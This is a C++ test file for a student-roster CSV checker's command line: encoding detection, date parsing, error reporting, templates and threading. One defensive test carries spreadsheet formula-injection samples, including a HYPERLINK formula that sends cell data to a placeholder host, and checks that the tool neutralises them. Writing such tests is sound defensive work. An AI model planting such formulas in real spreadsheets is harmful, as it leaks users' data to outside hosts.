// `xueshe roster` as a process: files in, the annotated roster out, every
// input row present with its line, GB18030 read the same as UTF-8.
#include <catch2/catch.hpp>

#include <algorithm>
#include <cstdio>
#include <filesystem>
#include <fstream>
#include <iterator>

#include <unistd.h>

#include "support/csv_rows.hpp"
#include "cli_helpers.hpp"
#include "xueshe/csv.hpp"

namespace {

struct Table {
  std::vector<std::string> header;
  std::vector<std::vector<std::string>> rows;
  std::string at(std::size_t row, const std::string& name) const {
    for (std::size_t i = 0; i < header.size(); ++i)
      if (header[i] == name) return i < rows[row].size() ? rows[row][i] : "";
    return "<no column " + name + ">";
  }
};

Table parse_csv(const std::string& text) {
  auto rows = xueshe::testing::csv_rows(text);
  Table out;
  if (rows.empty()) return out;
  out.header = std::move(rows.front());
  out.rows.assign(std::make_move_iterator(rows.begin() + 1), std::make_move_iterator(rows.end()));
  return out;
}

std::string temp_path(const std::string& name) {
  auto dir = std::filesystem::temp_directory_path() / ("xueshe-cli-test-" + std::to_string(::getpid()));
  std::filesystem::create_directories(dir);
  return (dir / name).string();
}

void write_file(const std::string& path, const std::string& bytes) {
  std::ofstream f(path, std::ios::binary);
  f << bytes;
}

std::string read_file(const std::string& path) {
  std::ifstream f(path, std::ios::binary);
  return std::string(std::istreambuf_iterator<char>(f), {});
}

// Every line end outside quoted fields is CRLF.
bool crlf_only(const std::string& s) {
  bool quoted = false;
  for (std::size_t i = 0; i < s.size(); ++i) {
    if (s[i] == '"') quoted = !quoted;
    if (!quoted && s[i] == '\n' && (i == 0 || s[i - 1] != '\r')) return false;
  }
  return true;
}

}  // namespace

TEST_CASE("roster: the mixed roster keeps every row in order — with its line and error - BOM and CRLF out") {
  auto r = xueshe_run({"roster", source_path("tests/roster/mixed.csv"), "--today", "2022-07-01"});
  INFO(r.err);
  REQUIRE(r.exit_code == 0);
  CHECK(r.out.rfind("\xEF\xBB\xBF", 0) == 0);
  CHECK(crlf_only(r.out));
  Table t = parse_csv(r.out);
  const std::vector<std::string> lines = {"2", "3", "6", "7", "8", "9", "10", "12", "13", "14", "15", "16", "17", "18", "19"};
  const std::vector<std::string> errors = {"", "", "", "", "unknown_value", "invalid_date", "date_order", "", "",
                                           "csv_stray_quote", "missing_answer", "unknown_value", "", "too_many_fields",
                                           "csv_unterminated_quote"};
  REQUIRE(t.rows.size() == lines.size());
  for (std::size_t i = 0; i < lines.size(); ++i) {
    INFO("row " << i);
    CHECK(t.at(i, "行号") == lines[i]);
    CHECK(t.at(i, "错误代码") == errors[i]);
  }
  CHECK(t.at(0, "学号") == "2022001");
  CHECK(t.at(0, "重复学号") == "学号 2022001 重复：第 2、7 行");
  CHECK(t.at(3, "重复学号") == "学号 2022001 重复：第 2、7 行");
  CHECK(t.at(1, "备注") == "第一行\r\n第二行");
  CHECK(t.at(14, "学号") == "2022015");  // the unclosed quote's row, kept
  // The short summary goes to stderr.
  CHECK(r.err.find("名单：15 行（表头在第 1 行，跳过 2 个空行）；8 行已判定，8 行有错误。") != std::string::npos);
  CHECK(r.err.find("转接完成率：2/5 = 40.0%（目标 100%，三.3）") != std::string::npos);
  CHECK(r.err.find("重复学号：1 个（共 2 行）") != std::string::npos);
  CHECK(r.err.find("第 8 行：“去向”的值“火星”无法识别") != std::string::npos);
}

TEST_CASE("roster: cells a spreadsheet would run (= + - @ TAB CR) come back with a leading ' and nothing else changed") {
  auto r = xueshe_run({"roster", source_path("tests/roster/formulas.csv"), "--today", "2022-07-01"});
  INFO(r.err);
  REQUIRE(r.exit_code == 0);
  for (const auto& row : xueshe::testing::csv_rows(r.out))
    for (const std::string& cell : row) {
      INFO("cell <" << cell << ">");
      CHECK((cell.empty() || std::string("=+-@\t\r\n").find(cell.front()) == std::string::npos));
    }
  Table t = parse_csv(r.out);
  REQUIRE(t.rows.size() == 5);
  CHECK(t.header.at(14) == "'=SUM(1+1)");
  CHECK(t.at(0, "姓名") == "'=1+2");
  CHECK(t.at(0, "备注") == "'@SUM(A1:A2)");
  CHECK(t.at(1, "学号") == "'+8613800000000");
  CHECK(t.at(1, "姓名") == "'-2+3");
  CHECK(t.at(1, "学院") == "'\t信息工程学院");
  CHECK(t.at(1, "备注") == "''已有引号");
  CHECK(t.at(2, "姓名") == "'=HYPERLINK(\"http://x.invalid/?d=\"&A1,\"点击\")");
  CHECK(t.at(2, "备注") == "'\r回车开头");
  CHECK(t.at(4, "学号") == "'-2022305");
  CHECK(t.at(4, "去向") == "'=火星");
  for (std::size_t i = 0; i < 4; ++i) CHECK(t.at(i, "路线") == "employer_org");
  // The bytes as written: the prefix inside the quotes, a row with nothing to mark unchanged.
  CHECK(r.out.find("\r\n2022301,'=1+2,信息工程学院,") != std::string::npos);
  CHECK(r.out.find("\r\n2022303,\"'=HYPERLINK(\"\"http://x.invalid/?d=\"\"&A1,\"\"点击\"\")\",") != std::string::npos);
  CHECK(r.out.find(",\"'\r回车开头\",\"'-1,5\",") != std::string::npos);
  CHECK(r.out.find("\r\n2022304,李四,信息工程学院,已就业,2022-06-30,2000-03-15,否,否,否,否,是,其他,未完成,普通备注,a=b,") !=
        std::string::npos);
}

TEST_CASE("roster: --summary writes the summary as JSON instead") {
  const std::string summary = temp_path("summary.json");
  auto r = xueshe_run({"roster", source_path("tests/roster/mixed.csv"), "--today", "2022-07-01", "--summary", summary});
  REQUIRE(r.exit_code == 0);
  CHECK(r.err.empty());
  auto s = nlohmann::json::parse(read_file(summary));
  CHECK(s["rows"] == 15);
  CHECK(s["rows_with_errors"] == 8);
  CHECK(s["file"]["encoding"] == "utf-8");
  CHECK(s["policy"]["id"] == "hxci-2022");
  CHECK(s["completion"]["target_clause"] == "三.3");
  CHECK(s["duplicates"]["first"][0]["lines"] == nlohmann::json::array({2, 7}));
  std::remove(summary.c_str());
}

TEST_CASE("roster: a GB18030 file (as Excel saves it in China) reads exactly as its UTF-8 twin") {
  const std::string summary = temp_path("gb.json");
  auto gb = xueshe_run({"roster", source_path("tests/roster/gb18030.csv"), "--today", "2022-07-01", "--summary", summary});
  auto utf8 = xueshe_run({"roster", source_path("tests/roster/gb18030.utf8.csv"), "--today", "2022-07-01"});
  INFO(gb.out);
  REQUIRE(gb.exit_code == 0);
  REQUIRE(utf8.exit_code == 0);
  CHECK(gb.out == utf8.out);
  CHECK(nlohmann::json::parse(read_file(summary))["file"]["encoding"] == "gb18030");
  Table t = parse_csv(gb.out);
  REQUIRE(t.rows.size() == 5);
  CHECK(t.at(0, "姓名") == "王\xF0\xA0\x80\x8B");  // U+2000B: outside GBK, inside GB18030
  CHECK(t.at(0, "路线") == "employer_township_org");  // no employer org; the Youth Home has one
  CHECK(t.at(0, "可选路线") == "youth_home_org");
  CHECK(t.at(0, "依据条款").find("智慧团建.广东报到") != std::string::npos);
  CHECK(t.at(1, "姓名") == "李,四");
  CHECK(t.at(1, "行号") == "3");
  CHECK(t.at(2, "行号") == "5");  // after the blank line
  CHECK(t.at(3, "重复学号") == "学号 2022101 重复：第 2、6 行");
  CHECK(t.at(4, "错误代码") == "invalid_date");
  // Told it is UTF-8, the same file is refused with the line of the first bad byte.
  auto strict = xueshe_run({"roster", source_path("tests/roster/gb18030.csv"), "--encoding", "utf-8"});
  CHECK(strict.exit_code == 2);
  CHECK(parse_out(strict)["error"]["code"] == "roster_invalid_utf8");
  CHECK(strict.err.find("第 1 行附近") != std::string::npos);
  // Forced to GB18030, a UTF-8 Chinese file decodes to something else or fails; never a crash.
  auto forced = xueshe_run({"roster", source_path("tests/roster/mixed.csv"), "--encoding", "gb18030"});
  CHECK((forced.exit_code == 0 || forced.exit_code == 2));
  std::remove(summary.c_str());
}

TEST_CASE("roster: dates typed as people type them check exactly as YYYY-MM-DD does") {
  const std::string header =
      "学号,去向,毕业日期,出生日期,是否党员,是否担任团内职务,是否自主创业,是否涉密单位,是否公务员,单位是否有团组织,"
      "升学层次,入学日期,新学校团组织是否已建立,未就业安排,出国类别,出国日期,接收地区\n";
  // Row by row: the dates as YYYY-MM-DD, and the same days typed otherwise.
  const std::vector<std::pair<std::string, std::string>> rows = {
      {"1,已就业,2022-06-30,2000-03-15,否,,否,否,否,是,,,,,,,其他",
       "1,已就业,2022/6/30,2000年3月15日,否,,否,否,否,是,,,,,,,其他"},
      {"2,升学,2022-06-30,1999-11-02,否,,,,,,研究生,2022-09-01,否,,,,其他",
       "2,升学,2022.6.30,19991102,否,,,,,,研究生,２０２２／９／１,否,,,,其他"},
      {"3,未就业,2022-07-15,2000-08-20,否,,,,,,,,,在校保留,,,其他",
       "3,未就业,２０２２年７月１５日,2000-8-20,否,,,,,,,,,在校保留,,,其他"},
      {"4,出国工作,2022-06-30,1994-06-15,否,否,,,,,,,,,因私,2022-07-10,福建",
       "4,出国工作,2022 年 6 月 30 号,1994/06/15,否,否,,,,,,,,,因私,２０２２０７１０,福建"},
      {"5,出国学习,2022-06-30,2000-05-05,否,,,,,,,,,,,2022-06-01,其他",
       "5,出国学习,2022/6/30,2000/5/5,否,,,,,,,,,,,2022年6月1日,其他"},  // departure before graduation: the same error
  };
  std::string iso = header, typed = header;
  for (const auto& [a, b] : rows) {
    iso += a + "\n";
    typed += b + "\n";
  }
  const std::string iso_file = temp_path("dates-iso.csv"), typed_file = temp_path("dates-typed.csv");
  write_file(iso_file, iso);
  write_file(typed_file, typed);
  auto a = xueshe_run({"roster", iso_file, "--today", "2022-07-01"});
  auto b = xueshe_run({"roster", typed_file, "--today", "2022-07-01"});
  INFO(b.out);
  REQUIRE(a.exit_code == 0);
  REQUIRE(b.exit_code == 0);
  Table ta = parse_csv(a.out), tb = parse_csv(b.out);
  REQUIRE(ta.rows.size() == rows.size());
  REQUIRE(ta.header == tb.header);
  // Every cell the tool adds is the same; the roster's own date cells come back as typed.
  for (const std::string date : {"毕业日期", "出生日期", "入学日期", "出国日期"})
    for (std::size_t r = 0; r < rows.size(); ++r) {
      ta.rows[r][std::find(ta.header.begin(), ta.header.end(), date) - ta.header.begin()].clear();
      tb.rows[r][std::find(tb.header.begin(), tb.header.end(), date) - tb.header.begin()].clear();
    }
  CHECK(ta.rows == tb.rows);
  CHECK(a.err == b.err);
  CHECK(tb.at(0, "路线") == "employer_org");
  CHECK(tb.at(2, "路线") == "retain_at_school");
  CHECK(tb.at(3, "路线") == "age_out");
  CHECK(tb.at(4, "错误代码") == "date_order");
  std::remove(iso_file.c_str());
  std::remove(typed_file.c_str());
}

TEST_CASE("roster --template prints the template - it round-trips without errors") {
  auto tpl = xueshe_run({"roster", "--template"});
  REQUIRE(tpl.exit_code == 0);
  CHECK(tpl.out.rfind("\xEF\xBB\xBF学号,姓名,学院,去向,毕业日期,出生日期,是否党员,是否担任团内职务,", 0) == 0);
  CHECK(crlf_only(tpl.out));
  const std::string file = temp_path("template.csv");
  write_file(file, tpl.out);
  auto r = xueshe_run({"roster", file, "--today", "2022-07-01"});
  REQUIRE(r.exit_code == 0);
  Table t = parse_csv(r.out);
  REQUIRE(t.rows.size() == 3);
  for (std::size_t i = 0; i < 3; ++i) CHECK(t.at(i, "错误代码").empty());
  CHECK(t.at(0, "路线") == "employer_org");
  CHECK(t.at(1, "路线") == "new_school_org");
  CHECK(t.at(2, "路线") == "community_mobile_branch");
  auto en = xueshe_run({"roster", "--template", "--lang", "en"});
  CHECK(en.out.rfind("\xEF\xBB\xBFStudent number,Name,College,Destination,", 0) == 0);
  std::remove(file.c_str());
}

TEST_CASE("roster: files that cannot be checked are refused with a clear error (exit 2)") {
  auto missing = xueshe_run({"roster", source_path("tests/roster/no-such-file.csv")});
  CHECK(missing.exit_code == 2);
  CHECK(parse_out(missing)["error"]["code"] == "roster_unreadable");
  auto no_input = xueshe_run({"roster"});
  CHECK(no_input.exit_code == 2);
  CHECK(parse_out(no_input)["error"]["code"] == "bad_argument");
  const std::string file = temp_path("no-destination.csv");
  write_file(file, "学号,姓名\r\n1,张三\r\n");
  auto r = xueshe_run({"roster", file, "--lang", "en"});
  CHECK(r.exit_code == 2);
  CHECK(parse_out(r)["error"]["code"] == "roster_no_destination_column");
  CHECK(r.err.find("has no “Destination” column") != std::string::npos);
  auto bad_encoding = xueshe_run({"roster", file, "--encoding", "latin1"});
  CHECK(bad_encoding.exit_code == 2);
  auto bad_policy = xueshe_run({"roster", file, "--policy", source_path("tests/roster/mixed.csv")});
  CHECK(bad_policy.exit_code == 2);
  CHECK(parse_out(bad_policy)["error"]["code"] == "policy_malformed_json");
  std::remove(file.c_str());
}

TEST_CASE("roster: a bad byte deep in a file is reported on its own line — in auto mode too") {
  // UTF-8, Chinese on every line, one bad byte on line 800.
  std::string utf8 = "学号,姓名,去向\r\n";
  for (int line = 2; line < 800; ++line) utf8 += std::to_string(line) + ",张三,已就业\r\n";
  utf8 += "800,王\xFF,已就业\r\n801,李四,已就业\r\n";
  const std::string file = temp_path("bad-utf8-line-800.csv");
  write_file(file, utf8);
  auto automatic = xueshe_run({"roster", file});
  CHECK(automatic.exit_code == 2);
  CHECK(parse_out(automatic)["error"]["code"] == "roster_undecodable");
  CHECK(automatic.err.find("第 800 行附近") != std::string::npos);
  auto strict = xueshe_run({"roster", file, "--encoding", "utf-8"});
  CHECK(parse_out(strict)["error"]["code"] == "roster_invalid_utf8");
  CHECK(strict.err.find("第 800 行附近") != std::string::npos);

  // GB18030 (as Excel saves it), a byte no GB18030 character starts with on its line 8.
  std::string gb = read_file(source_path("tests/roster/gb18030.csv"));
  REQUIRE(std::count(gb.begin(), gb.end(), '\n') == 7);
  gb += "2022199,\xFF,\xD2\xD1\xBE\xCD\xD2\xB5\r\n";  // 已就业 in GB18030 after the bad byte
  write_file(file, gb);
  auto gb_auto = xueshe_run({"roster", file});
  CHECK(parse_out(gb_auto)["error"]["code"] == "roster_undecodable");
  CHECK(gb_auto.err.find("第 8 行附近") != std::string::npos);
  auto gb_forced = xueshe_run({"roster", file, "--encoding", "gb18030"});
  CHECK(gb_forced.err.find("第 8 行附近") != std::string::npos);
  std::remove(file.c_str());
}

TEST_CASE("roster with a draft policy: a banner says its values are unverified") {
  const std::string draft = temp_path("draft.json");
  REQUIRE(xueshe_run({"policy", "draft", "--from", "hxci-2022", "--cohort", "2026", "-o", draft}).exit_code == 0);
  auto r = xueshe_run({"roster", "--template", "--policy", draft});
  REQUIRE(r.exit_code == 0);
  const std::string file = temp_path("template-2026.csv");
  write_file(file, r.out);
  auto run = xueshe_run({"roster", file, "--policy", draft, "--today", "2026-07-01"});
  REQUIRE(run.exit_code == 0);
  CHECK(run.err.find("注意：政策“hxci-2026”是草稿") != std::string::npos);
  Table t = parse_csv(run.out);
  CHECK(t.at(0, "完成转接截止") == "2026-08-31 未到期");
  std::remove(draft.c_str());
  std::remove(file.c_str());
}

TEST_CASE("roster --jobs: rows checked on several threads give the same bytes as on one") {
  // Large enough for parts (each at least 20,000 rows): mixed.csv's rows over and over, every student number
  // its own but a few repeated far apart (duplicates found across parts), and the rows' own errors.
  const std::string mixed = read_file(source_path("tests/roster/mixed.csv"));
  const std::size_t body = mixed.find('\n') + 1;
  std::string roster = mixed.substr(0, body);
  std::size_t n = 0;
  while (n < 45000) {
    for (const auto& rec : xueshe::testing::csv_rows(mixed.substr(body))) {
      std::vector<std::string> cells = rec;
      if (!cells.empty()) cells[0] = std::to_string(n % 9973 == 17 ? 17 : 2022000000 + n);
      xueshe::csv_append_record(roster, cells);
      ++n;
    }
  }
  const std::string in = temp_path("jobs.csv");
  write_file(in, roster);
  std::vector<std::string> outputs;
  for (const char* jobs : {"1", "2", "3"}) {
    const std::string summary = temp_path(std::string("jobs-summary-") + jobs + ".json");
    auto r = xueshe_run({"roster", in, "--today", "2022-07-01", "--summary", summary, "--jobs", jobs});
    REQUIRE(r.exit_code == 0);
    outputs.push_back(r.out + read_file(summary));
    std::remove(summary.c_str());
  }
  CHECK(outputs[0].size() > roster.size());
  CHECK(outputs[1] == outputs[0]);
  CHECK(outputs[2] == outputs[0]);
  CHECK(outputs[0].find("2022000017") == std::string::npos);  // (student numbers are rewritten)
  CHECK(parse_csv(outputs[0].substr(0, outputs[0].find("{"))).rows.size() == n);
  for (const char* bad : {"0", "65", "two"}) {
    auto r = xueshe_run({"roster", in, "--jobs", bad});
    CHECK(r.exit_code == 2);
    CHECK(r.out.find("--jobs") != std::string::npos);
  }
  std::remove(in.c_str());
}
